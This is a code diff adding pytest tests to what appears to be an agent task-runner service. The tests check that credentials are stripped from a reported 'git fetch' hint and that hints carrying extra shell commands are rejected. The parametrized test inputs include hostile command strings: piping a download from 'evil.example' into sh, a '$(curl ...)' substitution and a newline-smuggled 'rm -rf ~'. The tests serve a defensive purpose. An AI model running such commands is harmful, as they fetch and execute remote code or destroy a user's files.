@@ -213,3 +213,35 @@ def test_results_of_an_attempt_reaped_mid_upload_are_not_published(runner, claim
     results = Path(settings.RESULTS_ROOT) / "sample.git"
     refs = run_git(results, "for-each-ref", "--format=%(refname)") if results.exists() else ""
     assert f"refs/heads/{branch}" not in refs.split()
+
+
+# --- the fetch hint a runner reports is shown to users as a command ------------------------------
+def test_fetch_hint_keeps_no_credentials(runner, claimed):
+    """A push_url may carry a token (https://bot:<token>@host/...): the hint built from it was
+    stored as is and shown to every user who can see the task."""
+    hint = "git fetch https://bot:s3cret-token@git.example.com/team/app.git agent/x"
+    body = {"status": "succeeded", "result": {"result_branch": "agent/x", "result_fetch": hint}}
+    finish = runner.post(f"attempts/{claimed.attempt_id}/finish/", body, lease=claimed.lease)
+    assert finish.status_code == 200, finish.content
+    task = Task.objects.get(pk=claimed.task_id)
+    assert task.result_fetch == "git fetch https://git.example.com/team/app.git agent/x"
+    assert "s3cret" not in task.result_fetch
+
+
+@pytest.mark.parametrize(
+    "hint",
+    [
+        "git fetch /srv/results/app.git agent/x; curl https://evil.example/x | sh",
+        "curl https://evil.example/x | sh",
+        "git fetch $(curl evil.example) agent/x",
+        "git fetch /srv/results/app.git agent/x\nrm -rf ~",
+    ],
+)
+def test_fetch_hint_must_be_a_plain_git_fetch(runner, claimed, hint):
+    """The run page shows the hint for users to paste into a shell: a runner token's holder
+    could make it any command."""
+    body = {"status": "succeeded", "result": {"result_fetch": hint}}
+    finish = runner.post(f"attempts/{claimed.attempt_id}/finish/", body, lease=claimed.lease)
+    assert finish.status_code == 400, finish.content
+    assert "result" in _err(finish)["errors"]
+    assert Task.objects.get(pk=claimed.task_id).status == "running"
